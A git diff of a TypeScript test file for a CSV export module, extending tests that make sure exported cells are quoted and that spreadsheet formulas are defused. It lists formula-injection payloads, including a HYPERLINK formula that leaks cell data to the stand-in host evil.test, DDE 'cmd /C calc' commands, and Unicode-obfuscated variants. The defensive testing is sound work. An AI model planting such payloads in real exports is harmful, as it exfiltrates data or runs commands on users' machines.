@@ -2,6 +2,7 @@ import { describe, expect, it } from 'vitest'
 import fc from 'fast-check'
 import {
   CSV_EOL,
+  FORMULA_TRIGGERS,
   csvCell,
   csvHeader,
   csvLines,
@@ -69,37 +70,96 @@ function parseCsv(text: string): string[][] {
   return records
 }
 
-const guarded = (s: string): string => (/^[=+\-@\t\r\n]/.test(s) && !/^-?\d+(\.\d+)?$/.test(s) ? `'${s}` : s)
+/** Every field of a CSV text is quoted: the reader above, told to reject unquoted ones. */
+function everyFieldQuoted(text: string): boolean {
+  // After the quoted field's closing quote comes a comma or CRLF; outside quotes nothing else may stand.
+  return /^("([^"]|"")*"(,|\r\n))*$/.test(text)
+}
+
+/**
+ * How an attacker hopes a spreadsheet sees a field: cut into cells at ; , tab and line
+ * breaks (a locale's separator, a paste, an importer that ignores quotes), each cell with
+ * its whitespace trimmed and Unicode folded (NFKC). A cell that then starts with = + - @
+ * would run, unless it is a plain number. Answers the cells that would run.
+ */
+function cellsThatWouldRun(field: string): string[] {
+  return field
+    .split(/[;,\t\r\n]/)
+    .map((c) => c.normalize('NFKC').trim())
+    .filter((c) => /^[=+\-@]/.test(c) && !/^-?\d+(\.\d+)?([eE][-+]?\d+)?$/.test(c))
+}
+
+const ATTACKS = [
+  '=HYPERLINK("http://evil.test/?d="&A1,"click")',
+  "=cmd|' /C calc'!A0",
+  '+1+cmd|calc',
+  '-2+3+cmd|calc',
+  '@SUM(1+1)*cmd|calc',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  ' =1+1',
+  '\u00a0\u3000=1+1',
+  '\uff1d1+1',
+  '\uff0b1+cmd',
+  '\uff0d1+cmd',
+  '\uff20SUM(A1)',
+  '\ufe66 1',
+  'ok;=1+1',
+  'ok,=1+1',
+  'ok\t=1+1',
+  'ok; \t=1+1',
+  'ok, @SUM(A1)',
+  'ok;\uff1dcmd',
+  'a\r\n=1+1',
+  '=DDE("cmd";"/C calc";"!A0")',
+  '=1;=2,=3\t=4'
+]
 
 describe('csvCell / csvRow', () => {
-  it('quotes only what RFC 4180 requires, doubling quotes', () => {
-    expect(csvRow(['a', 'b c', 'd,e', 'say "hi"', 'line\nbreak', ''])).toBe('a,b c,"d,e","say ""hi""","line\nbreak",\r\n')
+  it('quotes every field, doubling quotes', () => {
+    expect(csvRow(['a', 'b c', 'd,e', 'say "hi"', 'line\nbreak', ''])).toBe('"a","b c","d,e","say ""hi""","line\nbreak",""\r\n')
   })
 
-  it('writes decimal strings as they are, negatives included', () => {
-    expect(csvRow(['0.008157600000000001', '-12.5', '1234567890123456789012345.000001', 42, -7])).toBe(
-      '0.008157600000000001,-12.5,1234567890123456789012345.000001,42,-7\r\n'
+  it('writes decimal strings and numbers as they are, negatives included: numbers stay numbers', () => {
+    expect(csvRow(['0.008157600000000001', '-12.5', '1234567890123456789012345.000001', 42, -7, 1e21, -1e-7])).toBe(
+      '"0.008157600000000001","-12.5","1234567890123456789012345.000001","42","-7","1e+21","-1e-7"\r\n'
     )
+    expect(csvCell('1,-5')).toBe('"1,-5"')
   })
 
-  it('defuses cells a spreadsheet would run as formulas', () => {
+  it('defuses a formula at the start, after leading whitespace, and after ; , tab or a line break', () => {
     expect(csvCell('=HYPERLINK("http://x","y")')).toBe(`"'=HYPERLINK(""http://x"",""y"")"`)
-    expect(csvCell('+1+cmd|calc')).toBe("'+1+cmd|calc")
-    expect(csvCell('-1+2')).toBe("'-1+2")
-    expect(csvCell('@SUM(A1)')).toBe("'@SUM(A1)")
-    expect(csvCell('\t=1')).toBe("'\t=1")
-    expect(csvCell('\r=1')).toBe(`"'\r=1"`)
-    expect(csvCell('a=1')).toBe('a=1')
+    expect(csvCell('+1+cmd|calc')).toBe(`"'+1+cmd|calc"`)
+    expect(csvCell('-1+2')).toBe(`"'-1+2"`)
+    expect(csvCell('@SUM(A1)')).toBe(`"'@SUM(A1)"`)
+    expect(csvCell('\t=1')).toBe(`"'\t'=1"`)
+    expect(csvCell('\r=1')).toBe(`"'\r'=1"`)
+    expect(csvCell('  =1')).toBe(`"  '=1"`)
+    expect(csvCell('\uff1d1+1')).toBe(`"'\uff1d1+1"`)
+    expect(csvCell('a;=1')).toBe(`"a;'=1"`)
+    expect(csvCell('a, +1')).toBe(`"a, '+1"`)
+    expect(csvCell('a\t@x')).toBe(`"a\t'@x"`)
+    expect(csvCell('a=1')).toBe('"a=1"')
+    expect(csvCell('a-b')).toBe('"a-b"')
   })
 
-  it('writes empty cells for null and undefined, and text for booleans and bigints', () => {
-    expect(csvRow([null, undefined, true, 10n ** 30n])).toBe(',,true,1000000000000000000000000000000\r\n')
+  it.each(ATTACKS)('no cell of %j would run in a spreadsheet once exported', (attack) => {
+    expect(cellsThatWouldRun(attack)).not.toEqual([])
+    const [field] = parseCsv(csvRow([attack]))[0]!
+    expect(cellsThatWouldRun(field!)).toEqual([])
   })
 
-  it('round-trips any row through an RFC 4180 reader (guarded cells come back with their apostrophe)', () => {
+  it('writes empty quoted cells for null and undefined, and text for booleans and bigints', () => {
+    expect(csvRow([null, undefined, true, 10n ** 30n])).toBe('"","","true","1000000000000000000000000000000"\r\n')
+  })
+
+  it('any row: every field quoted, no cell would run, and the text round-trips apart from the apostrophes (fast-check)', () => {
+    const trigger = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '\uff1d', '\uff0b', '\uff0d', '\uff20', '\ufe62', '\u207c')
+    const filler = fc.constantFrom(';', ',', ' ', '\u00a0', '"', "'", 'a', '1', '.', 'cmd|calc', 'SUM(A1)')
     const cell = fc.oneof(
       fc.string({ unit: 'grapheme', maxLength: 20 }),
-      fc.stringMatching(/^[=+\-@\t\r\n",a-z0-9 .]{0,12}$/),
+      fc.array(fc.oneof(trigger, filler), { maxLength: 12 }).map((parts) => parts.join('')),
       fc
         .tuple(fc.bigInt({ min: -(10n ** 25n), max: 10n ** 25n }), fc.nat(18))
         .map(([u, s]) => (s === 0 ? String(u) : `${u}.${'1'.repeat(s)}`))
@@ -107,7 +167,18 @@ describe('csvCell / csvRow', () => {
     fc.assert(
       fc.property(fc.array(fc.array(cell, { minLength: 1, maxLength: 8 }), { minLength: 1, maxLength: 10 }), (rows) => {
         const text = rows.map(csvRow).join('')
-        expect(parseCsv(text)).toEqual(rows.map((r) => r.map(guarded)))
+        expect(everyFieldQuoted(text)).toBe(true)
+        const back = parseCsv(text)
+        expect(back.map((r) => r.length)).toEqual(rows.map((r) => r.length))
+        back.forEach((r, i) =>
+          r.forEach((field, j) => {
+            const original = rows[i]![j]!
+            expect(cellsThatWouldRun(field)).toEqual([])
+            // Only apostrophes were added, and only where they were needed.
+            expect(field.replace(/'/g, '')).toBe(original.replace(/'/g, ''))
+            if (![...original].some((ch) => FORMULA_TRIGGERS.includes(ch))) expect(field).toBe(original)
+          })
+        )
       })
     )
   })
@@ -124,8 +195,8 @@ describe('csvHeader / csvLines', () => {
   ]
 
   it('writes a header row from names or columns', () => {
-    expect(csvHeader(['orderId', 'status'])).toBe('orderId,status' + CSV_EOL)
-    expect(csvHeader(columns)).toBe('id,"note, free text"\r\n')
+    expect(csvHeader(['orderId', 'status'])).toBe('"orderId","status"' + CSV_EOL)
+    expect(csvHeader(columns)).toBe('"id","note, free text"\r\n')
   })
 
   it('yields one line at a time, so an endless source can be streamed', () => {
@@ -133,9 +204,9 @@ describe('csvHeader / csvLines', () => {
       for (let id = 1; ; id++) yield { id, note: `n${id}` }
     }
     const it = csvLines(endless(), columns)
-    expect(it.next().value).toBe('id,"note, free text"\r\n')
-    expect(it.next().value).toBe('1,n1\r\n')
-    expect(it.next().value).toBe('2,n2\r\n')
+    expect(it.next().value).toBe('"id","note, free text"\r\n')
+    expect(it.next().value).toBe('"1","n1"\r\n')
+    expect(it.next().value).toBe('"2","n2"\r\n')
   })
 
   it('writes 100,000 rows line by line that parse back to the same rows', () => {
